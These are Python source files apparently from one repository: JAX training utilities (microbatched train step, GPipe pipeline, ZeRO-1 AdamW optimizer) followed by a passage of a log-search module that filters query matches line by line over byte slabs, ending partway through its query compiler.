