"""Train-step factories: loss → grads → optimizer, with microbatch accumulation.

``make_train_step`` builds the jit-able step for any (loss_fn, optimizer)
pair.  Gradient accumulation runs as a ``lax.scan`` over microbatches —
activation memory scales with the microbatch, enabling the 480B-class train
cells; the grad buffer stays sharded like the params.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Callable

import jax
import jax.numpy as jnp

from .optimizer import AdamWConfig, adamw_update


@dataclass(frozen=True)
class StepConfig:
    num_microbatches: int = 1
    loss_dtype: Any = jnp.float32


def _split_microbatches(batch, n: int):
    """[B, ...] leaves → [n, B/n, ...]."""

    def f(x):
        if x.ndim == 0:
            return jnp.broadcast_to(x, (n,))
        assert x.shape[0] % n == 0, f"batch {x.shape[0]} not divisible by {n} microbatches"
        return x.reshape(n, x.shape[0] // n, *x.shape[1:])

    return jax.tree.map(f, batch)


def make_train_step(
    loss_fn: Callable,  # (params, batch) -> (loss, metrics)
    opt_cfg: AdamWConfig,
    step_cfg: StepConfig = StepConfig(),
    grad_shardings=None,  # pytree of NamedShardings matching params
):
    """Returns train_step(params, opt_state, batch) -> (params, opt_state, metrics).

    ``grad_shardings`` pins each gradient (and the accumulation buffer) to its
    parameter's sharding — without it GSPMD is free to materialize replicated
    weight grads, turning every weight-grad dot into the UNSHARDED shape
    (observed 4–8× FLOP inflation on the TP axes before this was pinned).
    """

    grad_fn = jax.value_and_grad(loss_fn, has_aux=True)

    def _pin(grads):
        if grad_shardings is None:
            return grads
        return jax.tree.map(jax.lax.with_sharding_constraint, grads, grad_shardings)

    def accumulate_grads(params, batch):
        n = step_cfg.num_microbatches
        if n <= 1:
            (loss, metrics), grads = grad_fn(params, batch)
            return loss, metrics, _pin(grads)
        micro = _split_microbatches(batch, n)

        def body(carry, mb):
            g_acc, loss_acc = carry
            (loss, metrics), g = grad_fn(params, mb)
            g_acc = jax.tree.map(jnp.add, g_acc, _pin(g))
            return (_pin(g_acc), loss_acc + loss), metrics

        g0 = _pin(jax.tree.map(lambda p: jnp.zeros(p.shape, step_cfg.loss_dtype), params))
        (g_sum, loss_sum), metrics = jax.lax.scan(body, (g0, jnp.zeros((), step_cfg.loss_dtype)), micro)
        grads = _pin(jax.tree.map(lambda g: (g / n).astype(g.dtype), g_sum))
        metrics = jax.tree.map(lambda m: m[-1], metrics)
        return loss_sum / n, metrics, grads

    def train_step(params, opt_state, batch):
        loss, metrics, grads = accumulate_grads(params, batch)
        params, opt_state, opt_metrics = adamw_update(grads, opt_state, params, opt_cfg)
        metrics = dict(metrics or {})
        metrics.update(opt_metrics)
        metrics["loss"] = loss
        return params, opt_state, metrics

    return train_step


def make_eval_step(loss_fn: Callable):
    def eval_step(params, batch):
        loss, metrics = loss_fn(params, batch)
        metrics = dict(metrics or {})
        metrics["loss"] = loss
        return metrics

    return eval_step
