"""Explicit GPipe pipeline over the ``pipe`` mesh axis (shard_map).

The default distribution strategy treats ``pipe`` as a second tensor axis
(GSPMD).  This module is the alternative: layers are *partitioned* across
pipe stages and microbatches stream through via ``collective_permute`` —
the classic fill/steady/drain schedule with bubble fraction
(S-1)/(M+S-1).  Exercised by the llama3-8b:train_4k hillclimb variant and
the pipeline unit tests.

Implementation notes (JAX-native, no torch.distributed semantics):

* Stage-local layer stacks: the stacked layer params [L, ...] reshape to
  [S, L/S, ...] and shard dim 0 over ``pipe``; inside shard_map each stage
  scans its own [L/S, ...] slab.
* The rotation primitive is ``jax.lax.ppermute`` (stage i → i+1).
* A full forward needs M + S - 1 ticks; each tick runs one stage-local
  stack on whatever activation just arrived.
"""

from __future__ import annotations


import jax
import jax.numpy as jnp
from jax.sharding import PartitionSpec as P


def gpipe_forward(stage_fn, stage_params, x_micro, *, n_stages: int, axis_name: str = "pipe"):
    """Run inside shard_map: stream microbatches through pipeline stages.

    stage_fn(stage_params, x) -> y        (one stage's layer stack)
    stage_params: stage-local params (already sharded outside)
    x_micro: [M, mb, ...] microbatched input, replicated across stages;
             stage 0 consumes them in order.
    Returns [M, mb, ...] outputs (valid on the last stage; others zeros).
    """
    stage = jax.lax.axis_index(axis_name)
    m = x_micro.shape[0]
    ticks = m + n_stages - 1
    perm = [(i, (i + 1) % n_stages) for i in range(n_stages)]

    def tick(carry, t):
        inflight, outputs = carry
        # stage 0 injects microbatch t (when available)
        inject = jnp.where(t < m, t, 0)
        x_in = jnp.where(stage == 0, x_micro[inject], inflight)
        y = stage_fn(stage_params, x_in)
        # last stage records its result at slot t - (S-1)
        out_slot = t - (n_stages - 1)
        is_valid = (stage == n_stages - 1) & (out_slot >= 0)
        outputs = jax.lax.cond(
            is_valid,
            lambda o: jax.lax.dynamic_update_index_in_dim(o, y, jnp.maximum(out_slot, 0), 0),
            lambda o: o,
            outputs,
        )
        # rotate activations to the next stage
        inflight = jax.lax.ppermute(y, axis_name, perm)
        return (inflight, outputs), None

    inflight0 = jnp.zeros_like(x_micro[0])
    outputs0 = jnp.zeros_like(x_micro)
    (_, outputs), _ = jax.lax.scan(tick, (inflight0, outputs0), jnp.arange(ticks))
    return outputs


def make_gpipe_apply(layer_fn, mesh, *, n_stages: int, layers_per_stage: int, axis_name: str = "pipe"):
    """Build apply(params_stacked [L,...], x_micro [M,...]) -> y_micro.

    ``layer_fn(layer_params, x) -> x`` is a single layer; each stage scans
    its local slab.  Everything outside ``pipe`` is left to GSPMD (auto axes).
    """

    def stage_stack(stage_params, x):
        def body(x, lp):
            return layer_fn(lp, x), None

        y, _ = jax.lax.scan(body, x, stage_params)
        return y

    def apply(params_stacked, x_micro):
        # reshape [L, ...] -> [S, L/S, ...]; shard dim 0 over pipe
        def to_stages(p):
            return p.reshape(n_stages, layers_per_stage, *p.shape[1:])

        staged = jax.tree.map(to_stages, params_stacked)
        in_specs = (
            jax.tree.map(lambda _: P(axis_name), staged),
            P(),  # microbatches replicated into the pipeline
        )
        fn = jax.shard_map(
            lambda sp, xm: gpipe_forward(
                lambda p, x: stage_stack(jax.tree.map(lambda q: q[0], p), x),
                sp,
                xm,
                n_stages=n_stages,
                axis_name=axis_name,
            ),
            mesh=mesh,
            in_specs=in_specs,
            out_specs=P(axis_name),  # per-stage outputs; caller takes last stage
            check_vma=False,
        )
        out = fn(staged, x_micro)
        # out is stacked over stages on dim 0 — slice the final stage
        return out.reshape(n_stages, -1, *x_micro.shape[1:])[-1].reshape(x_micro.shape)

    return apply


def pipeline_bubble_fraction(n_stages: int, n_micro: int) -> float:
    return (n_stages - 1) / (n_micro + n_stages - 1)
