"""AdamW with ZeRO-1 sharded states.

The optimizer is a pair of pure functions (init / update) over param pytrees.
ZeRO-1: first/second moments carry *augmented* shardings — each state tensor
additionally shards its largest shardable dim over the ``data`` axis, so the
per-device optimizer memory shrinks by |data| (GSPMD inserts the
reduce-scatter / all-gather pair around the update automatically when the
train step's ``out_shardings`` pin the state shardings).

``state_dtype`` trades state memory for precision — fp32 default; bf16 for
the 480B-class configs where fp32 states would not fit per-chip HBM.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

import jax
import jax.numpy as jnp
import numpy as np

from ..models.params import ParamSpec, _is_spec
from ..models.sharding import ShardingRules


@dataclass(frozen=True)
class AdamWConfig:
    lr: float = 3e-4
    b1: float = 0.9
    b2: float = 0.95
    eps: float = 1e-8
    weight_decay: float = 0.1
    grad_clip: float = 1.0
    state_dtype: Any = jnp.float32
    warmup_steps: int = 100


def adamw_init(params, cfg: AdamWConfig):
    zeros = lambda p: jnp.zeros(p.shape, cfg.state_dtype)
    return {
        "m": jax.tree.map(zeros, params),
        "v": jax.tree.map(zeros, params),
        "count": jnp.zeros((), jnp.int32),
    }


def abstract_opt_state(specs, cfg: AdamWConfig):
    sds = lambda s: jax.ShapeDtypeStruct(s.shape, cfg.state_dtype)
    return {
        "m": jax.tree.map(sds, specs, is_leaf=_is_spec),
        "v": jax.tree.map(sds, specs, is_leaf=_is_spec),
        "count": jax.ShapeDtypeStruct((), jnp.int32),
    }


def _schedule(cfg: AdamWConfig, count):
    warm = jnp.minimum(1.0, (count + 1) / max(1, cfg.warmup_steps))
    return cfg.lr * warm


def global_norm(tree):
    return jnp.sqrt(
        sum(jnp.sum(jnp.square(x.astype(jnp.float32))) for x in jax.tree.leaves(tree))
    )


def adamw_update(grads, opt_state, params, cfg: AdamWConfig):
    count = opt_state["count"] + 1
    gnorm = global_norm(grads)
    scale = jnp.minimum(1.0, cfg.grad_clip / jnp.maximum(gnorm, 1e-9)) if cfg.grad_clip else 1.0
    lr = _schedule(cfg, opt_state["count"])
    b1, b2 = cfg.b1, cfg.b2
    bc1 = 1 - b1 ** count.astype(jnp.float32)
    bc2 = 1 - b2 ** count.astype(jnp.float32)

    def upd(p, g, m, v):
        g = g.astype(jnp.float32) * scale
        m32, v32 = m.astype(jnp.float32), v.astype(jnp.float32)
        m_new = b1 * m32 + (1 - b1) * g
        v_new = b2 * v32 + (1 - b2) * jnp.square(g)
        mhat = m_new / bc1
        vhat = v_new / bc2
        step = mhat / (jnp.sqrt(vhat) + cfg.eps) + cfg.weight_decay * p.astype(jnp.float32)
        p_new = (p.astype(jnp.float32) - lr * step).astype(p.dtype)
        return p_new, m_new.astype(m.dtype), v_new.astype(v.dtype)

    out = jax.tree.map(upd, params, grads, opt_state["m"], opt_state["v"])
    # unzip the 3-tuples
    p_new = jax.tree.map(lambda t: t[0], out, is_leaf=lambda t: isinstance(t, tuple))
    m_new = jax.tree.map(lambda t: t[1], out, is_leaf=lambda t: isinstance(t, tuple))
    v_new = jax.tree.map(lambda t: t[2], out, is_leaf=lambda t: isinstance(t, tuple))
    return p_new, {"m": m_new, "v": v_new, "count": count}, {"grad_norm": gnorm, "lr": lr}


# --- ZeRO-1 sharding augmentation ------------------------------------------------


def zero1_names(spec: ParamSpec, rules: ShardingRules, mesh) -> tuple:
    """Augment a param's logical names so one more dim shards over ``data``.

    Picks the first dim (largest first) that is not already data-sharded and
    whose size divides evenly by |data| × |existing axes on that dim|.
    """
    axis_sizes = dict(mesh.shape)
    data_n = axis_sizes.get("data", 1)
    if data_n == 1:
        return spec.names
    # resolve which mesh axes each dim already uses
    resolved: list[tuple[str, ...]] = []
    used: set[str] = set()
    for nm in spec.names:
        ax = rules.rules.get(nm) if nm else None
        ax = tuple(a for a in (ax or ()) if a in axis_sizes and a not in used)
        used.update(ax)
        resolved.append(ax)
    if "data" in used:
        return spec.names  # already data-sharded somewhere
    order = sorted(range(len(spec.shape)), key=lambda i: -spec.shape[i])
    for i in order:
        cur = int(np.prod([axis_sizes[a] for a in resolved[i]], initial=1))
        if spec.shape[i] % (cur * data_n) == 0:
            names = list(spec.names)
            # synthesize an inline rule name resolved later by zero1_sharding
            names[i] = ("__zero1__", names[i])
            return tuple(names)
    return spec.names


def zero1_sharding(spec: ParamSpec, rules: ShardingRules, mesh):
    """NamedSharding for a ZeRO-1 state tensor of ``spec`` (size-aware)."""
    from jax.sharding import NamedSharding, PartitionSpec

    from ..models.sharding import filter_spec_by_shape

    names = zero1_names(spec, rules, mesh)
    axis_sizes = dict(mesh.shape)
    # 'data' is reserved for the augmented dim ONLY when augmentation
    # happened; a param that already shards over data (e.g. arctic's expert
    # dim) must keep it — stripping it replicated the 73 GB expert moment
    # tensors and forced full-stack all-gathers in the update (§Perf log).
    augmented = any(isinstance(nm, tuple) and nm and nm[0] == "__zero1__" for nm in names)
    out: list = []
    used: set[str] = set()
    for nm in names:
        if isinstance(nm, tuple) and nm and nm[0] == "__zero1__":
            base = rules.rules.get(nm[1]) if nm[1] else None
            ax = tuple(a for a in (base or ()) if a in axis_sizes and a not in used)
            ax = ("data",) + ax
        else:
            base = rules.rules.get(nm) if nm else None
            ax = tuple(
                a
                for a in (base or ())
                if a in axis_sizes and a not in used and (a != "data" or not augmented)
            )
        used.update(ax)
        out.append(ax if len(ax) > 1 else (ax[0] if ax else None))
    pspec = filter_spec_by_shape(PartitionSpec(*out), spec.shape, mesh)
    return NamedSharding(mesh, pspec)


def opt_state_shardings(specs, rules: ShardingRules, mesh, cfg: AdamWConfig, *, zero1: bool = True):
    from jax.sharding import NamedSharding, PartitionSpec

    if zero1:
        sh = jax.tree.map(lambda s: zero1_sharding(s, rules, mesh), specs, is_leaf=_is_spec)
    else:
        from ..models.params import param_shardings

        sh = param_shardings(specs, rules, mesh)
    return {
        "m": sh,
        "v": jax.tree.map(lambda x: x, sh),
        "count": NamedSharding(mesh, PartitionSpec()),
    }
