"""Training substrate: optimizer, step factories, checkpointing, pipeline."""

from .checkpoint import latest_step, restore_checkpoint, restore_latest, save_checkpoint
from .grad_compress import (
    compress_with_feedback,
    compressed_psum,
    dequantize_int8,
    init_error_state,
    quantize_int8,
)
from .optimizer import AdamWConfig, abstract_opt_state, adamw_init, adamw_update, opt_state_shardings
from .pipeline import gpipe_forward, make_gpipe_apply, pipeline_bubble_fraction
from .step import StepConfig, make_eval_step, make_train_step

__all__ = [
    "AdamWConfig",
    "StepConfig",
    "abstract_opt_state",
    "adamw_init",
    "adamw_update",
    "compress_with_feedback",
    "compressed_psum",
    "dequantize_int8",
    "gpipe_forward",
    "init_error_state",
    "latest_step",
    "make_eval_step",
    "make_gpipe_apply",
    "make_train_step",
    "opt_state_shardings",
    "pipeline_bubble_fraction",
    "quantize_int8",
    "restore_checkpoint",
    "restore_latest",
    "save_checkpoint",
]
