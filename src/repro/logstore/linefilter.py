"""Vectorized exact post-filter: byte-level query evaluation over payloads.

The Result phase of the pipeline historically decompressed each candidate
batch, lowercased every line, and ran the compiled per-line predicate — a
Python-level loop whose per-line cost dominated query latency (ROADMAP open
item 1).  This module evaluates the same predicate over whole *slabs*: the
decompressed payloads of a run of candidate batches, joined with ``\\n`` and
viewed as one numpy uint8 array.  Leaf predicates become occurrence scans
(case-insensitive two-way byte compares anchored on the needle's rarest
byte), token-boundary checks become table lookups on the neighbor bytes, and
the boolean structure combines per-line masks.

**Exactness contract.**  The verdict per line is two-sided — ``maybe`` ⊇
matching lines and ``definitely`` ⊆ matching lines — and only lines in
``maybe & ~definitely`` fall back to the exact per-line matcher
(:func:`repro.core.querylang.line_matcher`, which receives the *raw* line
and lowercases it itself exactly when a Term/Contains leaf needs it), so
the final line set is bit-identical to the legacy loop.  A node with no
sound vectorized evaluation — e.g. a slab-unsafe :class:`Regex` — returns
``(ones, zeros)``: *every* line a maybe, *none* definite, which routes all
lines to the exact matcher and stays exact under ``Not`` (the complement
``~definitely`` is all-maybe again).  Three seams make byte-level ≠
str-level, and each is handled conservatively:

* **Non-ASCII lines.**  ``str.lower`` can materialize ASCII characters out
  of non-ASCII ones (U+212A KELVIN SIGN → ``k``, U+0130 → ``i`` + combining
  dot), so a byte scan can *miss* matches on such lines — and through a
  ``Not`` a miss would surface as a phantom hit.  Every line containing a
  byte ≥ 0x80 is therefore always evaluated by the exact predicate,
  whatever the vectorized verdict says.
* **Term tokenization.**  Only a single ``[a-z0-9]+``-run term is decided
  exactly in bytes (occurrence + non-alnum neighbors ⇔ it is a maximal
  rule-1 run ⇔ full-token membership); any other term shape keeps the
  occurrence scan as ``maybe`` and re-tokenizes the surviving lines.
* **Needle shape.**  Needles that aren't ASCII-encodable can only match
  non-ASCII lines (their UTF-8 bytes are ≥ 0x80), which fall back anyway;
  needles containing ``\\n`` can never match a line at all.

Decompression is the dominant per-batch cost the paper charges to false
positives; :class:`CompiledPredicate` shares one decompressed-payload cache
across the queries of a single ``search_many`` call (never across calls, so
every false positive still costs its decompression per search).
"""

from __future__ import annotations

import re
import threading
from typing import Any, Callable, Iterable, Mapping

import numpy as np

from ..core.querylang import Query, line_matcher
from .tokenizer import is_single_alnum_run

#: compiled query node: (slab, candidate byte spans) -> (maybe, definitely) line masks
NodeFn = Callable[..., "tuple[np.ndarray, np.ndarray]"]

_NL = 0x0A

#: cap on joined decompressed bytes per slab — bounds peak memory on
#: fallback scans over large corpora; chunk boundaries preserve line order
SLAB_TARGET_BYTES = 32 << 20


def _alnum_table() -> np.ndarray:
    alnum = np.zeros(256, dtype=bool)
    for lo, hi in ((0x30, 0x39), (0x41, 0x5A), (0x61, 0x7A)):
        alnum[lo : hi + 1] = True
    return alnum


_ALNUM_BYTE = _alnum_table()


class Slab:
    """One contiguous byte view over a run of decompressed batch payloads.

    Payload ``i`` occupies ``[starts of its lines)``; payloads are joined
    with ``\\n`` so line splitting is a single newline scan.  Line ``i`` is
    ``buf[line_starts[i] : line_ends[i]]``; ``line_batch[i]`` maps it back
    to its batch for source lookups and per-line fallbacks.
    """

    def __init__(
        self,
        payloads: list[bytes],
        groups: list[str],
        tpl_info: "list[tuple[bytes, Any] | None] | None" = None,
        tpl_cache: "dict | None" = None,
    ) -> None:
        self.buf = b"\n".join(payloads)
        self.arr = np.frombuffer(self.buf, dtype=np.uint8)
        nl = np.flatnonzero(self.arr == _NL)
        self.n_lines = nl.size + 1
        self.line_starts = np.empty(self.n_lines, dtype=np.int64)
        self.line_starts[0] = 0
        self.line_starts[1:] = nl + 1
        self.line_ends = np.empty(self.n_lines, dtype=np.int64)
        self.line_ends[:-1] = nl
        self.line_ends[-1] = self.arr.size
        self.groups = groups
        self._nonascii: np.ndarray | None = None
        self._lower: bytes | None = None
        self._text: str | None = None
        self._str_starts: np.ndarray | None = None
        self._line_batch: np.ndarray | None = None
        self._maxb: int | None = None
        self._offs: np.ndarray | None = None
        self._payload_nlines: np.ndarray | None = None
        self._payload_lens = np.asarray([len(p) for p in payloads], dtype=np.int64)
        # template-codec fast path: per-payload (dict blob, vars blob) plus a
        # per-call verdict cache keyed on (dict blob, needle, is_term) — the
        # "match constants once per template" seam (templates.py)
        self._tpl_info = tpl_info
        self._tpl_cache: dict = tpl_cache if tpl_cache is not None else {}
        self._tpl_ids: "list[np.ndarray | None] | None" = None
        self._line_first: np.ndarray | None = None

    @property
    def lower_buf(self) -> bytes:
        """The slab bytes ASCII-lowercased, built once per slab.  Occurrence
        scans run ``bytes.find`` over this (memchr-speed single pass) instead
        of multi-pass numpy compares.  ``bytes.lower`` IS the ASCII fold
        (A–Z → a–z, every other byte unchanged), done in C."""
        if self._lower is None:
            self._lower = self.buf.lower()  # repro: allow[R4] bytes.lower IS the ASCII fold — non-ASCII bytes pass through unchanged, and non-ASCII lines take the exact path
        return self._lower

    @property
    def payload_offs(self) -> np.ndarray:
        """Byte offset of each payload's first line within ``buf``."""
        if self._offs is None:
            lens = self._payload_lens
            offs = np.zeros(lens.size, dtype=np.int64)
            if lens.size > 1:
                np.cumsum(lens[:-1] + 1, out=offs[1:])
            self._offs = offs
        return self._offs

    @property
    def line_batch(self) -> np.ndarray:
        """Line index → payload index, built lazily (only group lookups and
        per-line fallbacks need it)."""
        if self._line_batch is None:
            self._line_batch = (
                np.searchsorted(self.payload_offs, self.line_starts, side="right")
                - 1
            )
        return self._line_batch

    def spans_for(self, pos: np.ndarray) -> list[tuple[int, int]]:
        """Byte spans ``[lo, hi)`` covering the given sorted payload indices,
        contiguous payload runs merged (matches never cross the ``\\n``
        separators, so merging only saves scan-loop iterations)."""
        breaks = np.flatnonzero(np.diff(pos) != 1)
        run_a = np.concatenate([pos[:1], pos[breaks + 1]])
        run_b = np.concatenate([pos[breaks], pos[-1:]])
        offs = self.payload_offs
        lens = self._payload_lens
        return list(zip(offs[run_a].tolist(), (offs[run_b] + lens[run_b]).tolist()))

    @property
    def payload_nlines(self) -> np.ndarray:
        """Line count of each payload (shared; feeds payload_line_mask)."""
        if self._payload_nlines is None:
            self._payload_nlines = np.bincount(
                self.line_batch, minlength=len(self._payload_lens)
            )
        return self._payload_nlines

    def payload_line_mask(self, pos: np.ndarray) -> np.ndarray:
        """Bool mask over lines belonging to the given payload indices."""
        sel = np.zeros(len(self._payload_lens), dtype=bool)
        sel[pos] = True
        return np.repeat(sel, self.payload_nlines)

    @property
    def nonascii_lines(self) -> np.ndarray:
        """Bool mask of lines containing any byte ≥ 0x80 (always re-checked
        by the exact predicate — see the module docstring)."""
        if self._nonascii is None:
            if self._max_byte() < 0x80:  # pure-ASCII slab: one reduce, no scan
                self._nonascii = np.zeros(self.n_lines, dtype=bool)
            else:
                mask = np.zeros(self.n_lines, dtype=bool)
                pos = np.flatnonzero(self.arr >= 0x80)
                if pos.size:
                    mask[np.unique(self.line_of(pos))] = True
                self._nonascii = mask
        return self._nonascii

    def _max_byte(self) -> int:
        if self._maxb is None:
            self._maxb = int(self.arr.max(initial=0))
        return self._maxb

    def line_of(self, offsets: np.ndarray) -> np.ndarray:
        """Line index for content-byte offsets (offsets never point at a
        separator: occurrence starts are needle bytes, which exclude \\n)."""
        return np.searchsorted(self.line_ends, offsets, side="right")

    def line_text(self, i: int) -> str:
        return self.buf[self.line_starts[i] : self.line_ends[i]].decode(
            "utf-8", "replace"
        )

    def lines_at(self, idx: np.ndarray) -> list[str]:
        """Decode the given sorted line indices; contiguous runs decode as
        ONE slice + split, so the cost scales with the hit count (hits
        cluster by batch), not the slab size.  Identical to per-line decodes:
        multi-byte UTF-8 sequences never span ``\\n`` (0x0A is unambiguous in
        UTF-8), so splitting before or after decoding replaces invalid
        sequences the same way.
        """
        if not idx.size:
            return []
        starts, ends, buf = self.line_starts, self.line_ends, self.buf
        breaks = np.flatnonzero(np.diff(idx) != 1)
        run_a = starts[np.concatenate([idx[:1], idx[breaks + 1]])]
        run_b = ends[np.concatenate([idx[breaks], idx[-1:]])]
        parts = [buf[a:b] for a, b in zip(run_a.tolist(), run_b.tolist())]
        # one decode + one split over the joined runs: truncated UTF-8 at a
        # run edge is always followed by \n, so "replace" yields byte-for-byte
        # the same text as decoding each run separately
        return b"\n".join(parts).decode("utf-8", "replace").split("\n")

    def occurrence_starts(self, needle: bytes, spans: np.ndarray | None = None) -> np.ndarray:
        """Start offsets of case-insensitive occurrences of ``needle``.

        A ``bytes.find`` loop over the lowercased slab — one memchr-speed
        pass plus a Python step per occurrence, which beats numpy's
        compare-and-gather (several full-width boolean passes) except for
        pathologically common needles.  Case folding via ``lower_buf``
        exactly mirrors ``str.lower`` on ASCII; matches cannot cross lines
        (no needle byte equals ``\\n``).  ``spans`` restricts the scan to
        the given byte ranges (payload-aligned, so no match is truncated).
        """
        if len(needle) > self.arr.size:
            return np.empty(0, dtype=np.int64)
        buf = self.lower_buf
        find = buf.find
        out: list[int] = []
        for lo, hi in spans if spans is not None else ((0, len(buf)),):
            pos = find(needle, lo, hi)
            while pos >= 0:
                out.append(pos)
                pos = find(needle, pos + 1, hi)
        return np.asarray(out, dtype=np.int64)

    def occurrence_lines(self, needle: bytes, spans: np.ndarray | None = None) -> np.ndarray:
        mask = np.zeros(self.n_lines, dtype=bool)
        starts = self.occurrence_starts(needle, spans)
        if starts.size:
            mask[self.line_of(starts)] = True
        return mask

    def token_lines(self, needle: bytes, spans: np.ndarray | None = None) -> np.ndarray:
        """Lines where ``needle`` (a single ``[a-z0-9]+`` run) occurs as a
        maximal alnum run — i.e. as a full §5.1.1 rule-1 token."""
        starts = self.occurrence_starts(needle, spans)
        mask = np.zeros(self.n_lines, dtype=bool)
        if not starts.size:
            return mask
        arr, k = self.arr, len(needle)
        prev = arr[np.maximum(starts - 1, 0)]
        left_ok = (starts == 0) | ~_ALNUM_BYTE[prev]
        after = starts + k
        nxt = arr[np.minimum(after, arr.size - 1)]
        right_ok = (after >= arr.size) | ~_ALNUM_BYTE[nxt]
        ok = starts[left_ok & right_ok]
        if ok.size:
            mask[self.line_of(ok)] = True
        return mask

    @property
    def text(self) -> str:
        """The slab decoded as one str (``utf-8``/``replace``), built once.

        ``\\n`` alignment survives the decode: ``0x0A`` never occurs inside a
        multi-byte UTF-8 sequence, and ``replace`` substitutes U+FFFD without
        consuming a following valid byte — so ``text.split("\\n")`` yields
        exactly ``n_lines`` entries, each equal to ``line_text(i)``.
        """
        if self._text is None:
            self._text = self.buf.decode("utf-8", "replace")
        return self._text

    @property
    def str_line_starts(self) -> np.ndarray:
        """Start offset of each line within :attr:`text` (*str* space).

        On a pure-ASCII slab this is ``line_starts`` itself (byte == str
        offsets); otherwise it's rebuilt from the decoded lines' lengths.
        """
        if self._str_starts is None:
            if self._max_byte() < 0x80:
                self._str_starts = self.line_starts
            else:
                lens = np.fromiter(
                    (len(s) for s in self.text.split("\n")),
                    dtype=np.int64,
                    count=self.n_lines,
                )
                starts = np.empty(self.n_lines, dtype=np.int64)
                starts[0] = 0
                np.cumsum(lens[:-1] + 1, out=starts[1:])
                self._str_starts = starts
        return self._str_starts

    def regex_lines(
        self, rx: "re.Pattern[str]", spans: "Iterable[tuple[int, int]] | None" = None
    ) -> np.ndarray:
        """Lines containing a match of ``rx``, via slab-level ``rx.search``.

        ``rx`` must be *slab-safe* (``core.regex_prefilter.analyze``: nothing
        in it can match ``"\\n"`` or anchor to the string) and compiled with
        ``re.MULTILINE`` — then a search over the joined ``text`` decides
        exactly what per-line searches would: matches cannot cross the
        separators, ``^``/``$`` bind to line edges, and ``\\b``/lookarounds
        see the ``"\\n"`` precisely where a per-line search sees a string
        edge.  ``spans`` (payload- or line-aligned *byte* spans) restrict
        the scan; they convert to str space through the line grid.  After
        each hit the scan jumps to the next line start — one C-level search
        per matching line, immune to zero-width matches.
        """
        mask = np.zeros(self.n_lines, dtype=bool)
        n = self.n_lines
        if spans is None:
            ranges = [(0, n)]
        else:
            # byte span -> [first line starting at/after lo, last line
            # ending by hi): spans are line-aligned, so this is exact
            sp = np.asarray(list(spans), dtype=np.int64).reshape(-1, 2)
            if not sp.size:
                return mask
            a_arr = np.searchsorted(self.line_starts, sp[:, 0], side="left")
            b_arr = np.searchsorted(self.line_ends, sp[:, 1], side="left")
            bump = (b_arr < n) & (self.line_ends[np.minimum(b_arr, n - 1)] <= sp[:, 1])
            b_arr = np.minimum(b_arr + bump, n)
            keep = a_arr < b_arr
            ranges = list(zip(a_arr[keep].tolist(), b_arr[keep].tolist()))
        if not ranges:
            return mask
        text = self.text
        sstarts = self.str_line_starts
        search = rx.search
        slist = sstarts.tolist()
        end = len(text)
        for a, b in ranges:
            pos = slist[a]
            hi = slist[b] - 1 if b < n else end
            if b - a == 1:
                # single-line range (the common shape once the literal
                # prefilter has narrowed the spans): no line lookup needed
                if search(text, pos, hi) is not None:
                    mask[a] = True
                continue
            while True:
                m = search(text, pos, hi)
                if m is None:
                    break
                line = int(np.searchsorted(sstarts, m.start(), side="right")) - 1
                mask[line] = True
                if line + 1 >= b:
                    break
                pos = slist[line + 1]
        return mask

    def group_lines(self, name: str) -> np.ndarray:
        sel = np.fromiter((g == name for g in self.groups), dtype=bool, count=len(self.groups))
        return sel[self.line_batch]

    # -- template-codec fast path -------------------------------------------------

    def template_verdicts(
        self, needle: bytes, is_term: bool
    ) -> "tuple[np.ndarray, np.ndarray] | None":
        """``(yes, no)`` line masks from per-template constant matching.

        Each payload carrying template info contributes its lines' verdicts:
        the dictionary is matched against the needle **once** (cached per
        call across every batch sharing the blob) and the per-template
        verdict fans out to member lines through the vars blob's template
        ids.  Lines of template-less payloads stay undecided in both masks.
        ``None`` when no payload in the slab has template info.
        """
        info = self._tpl_info
        if info is None or all(i is None for i in info):
            return None
        if self._tpl_ids is None:
            from .templates import decode_ids

            self._tpl_ids = [
                None if i is None else np.asarray(decode_ids(i[1]), dtype=np.int64)
                for i in info
            ]
        from .templates import constant_verdicts

        text = needle.decode("ascii")
        yes = np.zeros(self.n_lines, dtype=bool)
        no = np.zeros(self.n_lines, dtype=bool)
        first = self._payload_line_first()
        nl = self.payload_nlines
        cache = self._tpl_cache
        for p, i in enumerate(info):
            if i is None:
                continue
            ids = self._tpl_ids[p]
            if ids is None or ids.size != nl[p]:
                continue  # inconsistent vars blob: leave the payload undecided
            key = (i[0], text, is_term)
            verd = cache.get(key)
            if verd is None:
                verd = cache[key] = constant_verdicts(i[0], text, is_term)
            v = verd[ids]
            a = int(first[p])
            yes[a : a + ids.size] = v == 1
            no[a : a + ids.size] = v == -1
        return yes, no

    def _payload_line_first(self) -> np.ndarray:
        """First line index of each payload (lines are payload-contiguous)."""
        if self._line_first is None:
            nl = self.payload_nlines
            first = np.zeros(nl.size, dtype=np.int64)
            if nl.size > 1:
                np.cumsum(nl[:-1], out=first[1:])
            self._line_first = first
        return self._line_first

    def lines_spans(
        self, mask: np.ndarray, within: "Iterable[tuple[int, int]] | None"
    ) -> list[tuple[int, int]]:
        """Byte spans covering the masked lines (contiguous runs merged),
        intersected with ``within`` when given — the scan restriction that
        turns template verdicts into skipped bytes."""
        idx = np.flatnonzero(mask)
        if not idx.size:
            return []
        breaks = np.flatnonzero(np.diff(idx) != 1)
        a = self.line_starts[np.concatenate([idx[:1], idx[breaks + 1]])]
        b = self.line_ends[np.concatenate([idx[breaks], idx[-1:]])]
        spans = list(zip(a.tolist(), b.tolist()))
        if within is None:
            return spans
        return _intersect_spans(spans, list(within))


def _intersect_spans(
    a: list[tuple[int, int]], b: list[tuple[int, int]]
) -> list[tuple[int, int]]:
    """Intersection of two sorted non-overlapping span lists."""
    out: list[tuple[int, int]] = []
    i = j = 0
    while i < len(a) and j < len(b):
        lo = max(a[i][0], b[j][0])
        hi = min(a[i][1], b[j][1])
        if lo < hi:
            out.append((lo, hi))
        if a[i][1] <= b[j][1]:
            i += 1
        else:
            j += 1
    return out


# -- query compilation: AST → per-line (maybe, definitely) masks --------------------


def _const(value: bool) -> "NodeFn":
    def node(slab: Slab, spans: np.ndarray | None = None) -> tuple[np.ndarray, np.ndarray]:
        m = np.full(slab.n_lines, value, dtype=bool)
        return m, m

    return node


def _compile(query: Query) -> "NodeFn":
    """Compile the AST to ``node(slab, spans) -> (maybe, definitely)`` line
    masks.  ``spans`` bounds the occurrence scans to the caller's candidate
    byte ranges; masks are still slab-wide, and lines outside the spans carry
    no guarantee — the caller intersects with its candidate-line mask."""
